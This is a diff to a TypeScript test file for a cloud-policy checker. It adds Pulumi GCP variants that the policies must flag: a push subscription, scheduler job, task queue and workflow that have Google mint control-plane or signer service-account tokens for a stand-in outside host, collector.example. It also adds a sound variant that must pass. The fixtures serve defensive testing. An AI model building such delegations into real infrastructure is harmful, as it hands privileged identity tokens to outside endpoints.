@@ -320,6 +320,36 @@ export const VARIANTS: Variant[] = [
         mutate: add((h) => {
             new gcp.serviceaccount.IAMMember("tools-ksa-cp", { serviceAccountId: h.controlPlaneSa.name, role: "roles/iam.workloadIdentityUser", member: `serviceAccount:${WORKER_PROJECT}.svc.id.goog[tools/deployer]` });
         }) },
+    // ------------------------------------------------ token delegations and code under platform identities (I9, I10)
+    { name: "a Pub/Sub push subscription makes Google mint the control plane's OIDC tokens for an outside endpoint", invariant: "I10", policy: "platform-identity-impersonation", offender: "push-as-cp", preview: true,
+        mutate: add((h) => {
+            const topic = new gcp.pubsub.Topic("any-topic", { project: WORKER_PROJECT, labels: CP });
+            new gcp.pubsub.Subscription("push-as-cp", {
+                project: WORKER_PROJECT, topic: topic.name, labels: CP,
+                pushConfig: { pushEndpoint: "https://collector.example/push", oidcToken: { serviceAccountEmail: h.controlPlaneSa.email, audience: "https://signer.example" } },
+            });
+        }) },
+    { name: "a Cloud Scheduler job mints the control plane's OIDC tokens for an outside URL", invariant: "I10", policy: "platform-identity-impersonation", offender: "cron-as-cp", preview: true,
+        mutate: add((h) => {
+            new gcp.cloudscheduler.Job("cron-as-cp", {
+                project: WORKER_PROJECT, region: REGION, schedule: "*/5 * * * *",
+                httpTarget: { uri: "https://collector.example/cron", oidcToken: { serviceAccountEmail: h.controlPlaneSa.email, audience: "https://signer.example" } },
+            });
+        }) },
+    { name: "a Cloud Tasks queue mints OAuth tokens of the signer's service account for its HTTP target", invariant: "I9", policy: "single-signer", offender: "tasks-as-signer", preview: true,
+        mutate: add((h) => {
+            new gcp.cloudtasks.Queue("tasks-as-signer", {
+                project: SIGNER_PROJECT, location: REGION,
+                httpTarget: { uriOverride: { host: "collector.example" }, oauthToken: { serviceAccountEmail: h.signer.sa.email } },
+            });
+        }) },
+    { name: "a signer-labelled Workflow runs as the signer's service account (a second signer that signs whatever it is given)", invariant: "I9", policy: "single-signer", offender: "wf-signer", preview: true,
+        mutate: add((h) => {
+            new gcp.workflows.Workflow("wf-signer", {
+                project: SIGNER_PROJECT, region: REGION, serviceAccount: h.signer.sa.email, labels: { "build-fleet-role": "signer" },
+                sourceContents: "main:\n  steps:\n  - sign: {call: http.post, args: {url: https://cloudkms.googleapis.com/v1/x:asymmetricSign, auth: {type: OAuth2}}}",
+            });
+        }) },
     { name: "a NamespacePatch labels a namespace runner, and a KSA there holds a storage role (its Workload Identity principal is a runner identity)", invariant: "I7", policy: LPV, offender: "tools-ksa-storage",
         also: [
             { policy: "pool-intake-separation", offender: "tools-ksa-storage" },
@@ -656,6 +686,17 @@ export const VARIANTS: Variant[] = [
 
 /** Sound designs that look unusual: none may draw a finding (normal and preview). */
 export const SECURE: SecureVariant[] = [
+    { name: "a push subscription and a scheduler job that mint tokens for their own dedicated identity (no platform identity)",
+        mutate: add(() => {
+            const sa = new gcp.serviceaccount.Account("notifier-sa", { project: WORKER_PROJECT, accountId: "notifier" });
+            const topic = new gcp.pubsub.Topic("notify-topic", { project: WORKER_PROJECT, labels: CP });
+            new gcp.pubsub.Subscription("notify-push", {
+                project: WORKER_PROJECT, topic: topic.name, labels: CP,
+                pushConfig: { pushEndpoint: "https://hooks.example/notify", oidcToken: { serviceAccountEmail: sa.email } },
+            });
+            new gcp.pubsub.Subscription("notify-pull", { project: WORKER_PROJECT, topic: topic.name, labels: CP });
+            new gcp.cloudscheduler.Job("nightly-ping", { project: WORKER_PROJECT, region: REGION, schedule: "0 3 * * *", httpTarget: { uri: "https://hooks.example/nightly" } });
+        }) },
     { name: "a second signer-labelled service that cannot sign (publishes the keyring)",
         mutate: add((h) => {
             const sa = new gcp.serviceaccount.Account("keyring-publisher-sa", { project: SIGNER_PROJECT, accountId: "keyring-publisher" });
